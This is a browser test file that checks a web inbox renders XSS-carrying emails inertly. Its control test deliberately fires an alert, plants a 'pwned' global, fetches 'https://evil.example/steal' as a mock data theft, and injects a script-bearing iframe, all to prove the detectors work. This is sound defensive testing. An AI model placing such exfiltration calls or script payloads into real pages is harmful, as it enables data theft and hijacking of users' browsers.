import type { BrowserContext, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { ApiMessage, ApiMessageSummary } from '../../src/http/api/types.js';
import { carrierMessage, XSS_CARRIERS, type XssCarrier } from '../hostile/xss-carriers.js';
import { describeBrowser, shownAddress, startBrowserHarness, type BrowserHarness } from '../support/browser.js';
import { mailer } from '../support/mailer.js';
import { foreignMarkup, frameProblems, watchHostile, windowGlobals, type HostileWatch } from './hostile-watch.js';

/**
 * The browser proof for test/hostile/xss-carriers.ts: every carrier goes over
 * real SMTP into one inbox, and one headless Chromium reads each of them the
 * way a person would (row, HTML, Text, Headers, "Load remote images"). What
 * the carriers try is alert() and loads from evil.example, so the page must
 * show no dialog, throw nothing, gain no global, stay where it is, and reach
 * no other host, except for the images and styles the reader let in.
 */
describeBrowser('web inbox: every XSS carrier stays inert', () => {
  let harness: BrowserHarness;
  let context: BrowserContext;
  let page: Page;
  let watch: HostileWatch;
  let address: string;
  let baseline: Set<string>;
  // Carrier index -> its message, found by the +tag it was delivered to.
  const messages = new Map<number, ApiMessage>();

  const api = async <T>(path: string): Promise<T> => (await fetch(`${harness.server.httpUrl}${path}`)).json() as Promise<T>;

  beforeAll(async () => {
    harness = await startBrowserHarness();
    const { address: inbox } = await (await fetch(`${harness.server.httpUrl}/api/inboxes`, { method: 'POST' })).json() as { address: string };
    address = inbox;
    const [local, domain] = address.split('@');
    const transport = mailer(harness.server.smtpPort);
    try {
      // The raw text as carrierMessage wrote it; a +tag per carrier lands them all in one inbox, told apart.
      for (const [index, carrier] of XSS_CARRIERS.entries()) {
        const to = `${local}+c${index}@${domain}`;
        await transport.sendMail({ envelope: { from: 'carrier@example.com', to: [to] }, raw: carrierMessage(carrier, to) });
      }
    } finally {
      transport.close();
    }
    const { messages: summaries } = await api<{ messages: ApiMessageSummary[] }>(`/api/inboxes/${encodeURIComponent(address)}/messages`);
    for (const summary of summaries) {
      const index = Number(/^c(\d+)$/.exec(summary.tag ?? '')?.[1]);
      if (Number.isInteger(index)) messages.set(index, await api<ApiMessage>(`/api/inboxes/${encodeURIComponent(address)}/messages/${summary.id}`));
    }

    context = await harness.newContext();
    page = await context.newPage();
    watch = await watchHostile(context, page, harness.server.httpUrl);
    watch.begin('(the inbox list)');
    await page.goto(`/#/inbox/${address}`);
    expect(await shownAddress(page)).toBe(address);
    await page.locator('#connection[data-state="live"]').waitFor();
    await page.locator(`.message-row >> nth=${XSS_CARRIERS.length - 1}`).waitFor();
    baseline = new Set(await windowGlobals(page));
  });

  afterAll(async () => {
    await harness?.close();
  });

  it('delivered every carrier, and the list of them alone did nothing', () => {
    expect([...messages.keys()].sort((a, b) => a - b)).toEqual(XSS_CARRIERS.map((_carrier, index) => index));
    expect(watch.problems('(the inbox list)')).toEqual([]);
  });

  /** Opens the message by its row, as a reader would, and waits until it is shown. */
  async function openRow(message: ApiMessage): Promise<void> {
    const row = page.locator(`.message-row[data-id="${message.id}"]`);
    await row.locator('a.message-link').click();
    await page.locator('.message-subject').filter({ hasText: message.subject.trim() || '(no subject)' }).waitFor();
  }

  /** The message iframe once its document (and every subresource it tried) has loaded. */
  async function loadedFrame(urlPattern: RegExp): Promise<Frame> {
    const handle = await page.waitForSelector('iframe.message-frame');
    const frame = await handle.contentFrame();
    if (frame === null) throw new Error('the message iframe has no frame');
    await frame.waitForURL(urlPattern, { waitUntil: 'load' });
    return frame;
  }

  /** Everything about a carrier's fields that must read as the text it is. */
  async function expectLiteralFields(carrier: XssCarrier, message: ApiMessage): Promise<void> {
    const row = page.locator(`.message-row[data-id="${message.id}"]`);
    await expect(row.locator('.row-subject').textContent()).resolves.toBe(message.subject);
    await expect(page.locator('.message-subject').textContent()).resolves.toBe(message.subject);
    if (carrier.subject !== undefined) {
      // The server kept the markup as characters, so the checks above compare against the raw payload.
      expect(message.subject).toBe(carrier.subject);
      await expect(row.textContent()).resolves.toContain(carrier.subject);
    }
    if (carrier.fromName !== undefined) {
      expect(message.from?.name).toBe(carrier.fromName);
      await expect(row.locator('.row-from').textContent()).resolves.toContain(carrier.fromName);
      await expect(page.locator('.message-fields .mailbox-name').first().textContent()).resolves.toBe(carrier.fromName);
    }
    const names = message.attachments.map((attachment) => attachment.filename ?? `attachment-${attachment.index + 1}`);
    await expect(page.locator('.attachment-name').allTextContents()).resolves.toEqual(names);
    for (const attachment of carrier.attachments ?? []) expect(names).toContain(attachment.filename);
  }

  it('has watchers that see a dialog, a thrown error, a new global, script in a frame, a leak and a navigation', async () => {
    // Its own context, with the page's CSP off so the leaks below get as far as the network.
    const controlContext = await harness.newContext({ bypassCSP: true });
    const control = await controlContext.newPage();
    const controlWatch = await watchHostile(controlContext, control, harness.server.httpUrl);
    controlWatch.begin('control');
    await control.goto('/');
    await shownAddress(control);
    const before = new Set(await windowGlobals(control));
    await control.evaluate(async () => {
      alert('control');
      (window as unknown as { pwned: number }).pwned = 1;
      await fetch('https://evil.example/steal').catch(() => undefined);
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.srcdoc = '<script>alert(1)</script>';
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve));
      history.pushState(null, '', '/elsewhere');
      setTimeout(() => {
        throw new Error('control error');
      });
    });
    await expect.poll(() => controlWatch.problems('control').length, { interval: 50 }).toBeGreaterThanOrEqual(5);
    const seen = controlWatch.problems('control').join('\n');
    expect(seen).toContain('dialog alert: control');
    expect(seen).toMatch(/request to another host: fetch GET https:\/\/evil\.example\/steal/);
    expect(seen).toMatch(/script ran in .*Ignored call to 'alert\(\)'/);
    expect(seen).toContain('the page navigated to');
    expect(seen).toContain('uncaught error: control error');
    expect((await windowGlobals(control)).filter((name) => !before.has(name))).toEqual(['pwned']);
    await controlContext.close();
  });

  for (const [index, carrier] of XSS_CARRIERS.entries()) {
    it(`${carrier.vector}: ${carrier.name}`, async () => {
      const message = messages.get(index);
      if (message === undefined) throw new Error(`carrier ${index} was not delivered`);
      watch.begin(carrier.name);
      await openRow(message);

      let tabs = ['Text', 'Headers'];
      if (message.htmlUrl !== null) {
        tabs = ['HTML', ...tabs];
        const htmlUrl = message.htmlUrl;
        await page.getByRole('tab', { name: 'HTML' }).click();
        expect(await frameProblems(await loadedFrame(new RegExp(`${escapeRegExp(htmlUrl)}$`)))).toEqual([]);
        // The server's count decides whether the page offers the switch; then it must, and pressing it is the opt-in.
        const head = await fetch(`${harness.server.httpUrl}${htmlUrl}`, { method: 'HEAD' });
        if (Number(head.headers.get('x-blocked-remote-content')) > 0) {
          await page.getByRole('button', { name: 'Load remote images' }).click();
          expect(await frameProblems(await loadedFrame(new RegExp(`${escapeRegExp(htmlUrl)}\\?remote=1$`)))).toEqual([]);
          // The recorder saw the frame's loads, so its silence elsewhere means something.
          expect(watch.optedIn(carrier.name).length).toBeGreaterThan(0);
        }
        // The payload's own frames (iframe, object, embed) never made it: the page and the message only.
        expect(page.frames()).toHaveLength(2);
      } else {
        expect(page.frames()).toHaveLength(1);
      }

      for (const name of tabs) {
        const tab = page.getByRole('tab', { name, exact: true });
        await tab.click();
        await expect(tab.getAttribute('aria-selected')).resolves.toBe('true');
      }
      const text = page.locator('.message-text');
      await page.getByRole('tab', { name: 'Text', exact: true }).click();
      // Only http(s) text becomes a link; javascript: and markup stay characters.
      const hrefs = await text.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
      expect(hrefs.filter((href) => !/^https?:\/\//.test(href))).toEqual([]);
      if (carrier.text !== undefined) {
        for (const line of carrier.text.split('\n')) await expect(text.textContent()).resolves.toContain(line);
      }
      await page.getByRole('tab', { name: 'Headers', exact: true }).click();
      if (carrier.subject !== undefined) await expect(page.locator('.headers-table').textContent()).resolves.toContain(carrier.subject);

      await expectLiteralFields(carrier, message);
      expect(await foreignMarkup(page)).toEqual([]);
      expect((await windowGlobals(page)).filter((name) => !baseline.has(name))).toEqual([]);
      expect(watch.problems(carrier.name)).toEqual([]);
      for (const request of watch.optedIn(carrier.name)) expect(new URL(request.url).host).toBe('evil.example');

      // Back to the list (the Back link's href; wide screens hide the link), so the next carrier starts with this one's frame gone.
      await page.evaluate((hash) => {
        location.hash = hash;
      }, `#/inbox/${address}`);
      await page.locator('#message-view').waitFor({ state: 'hidden' });
      expect(watch.problems(carrier.name)).toEqual([]);
    });
  }
});

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
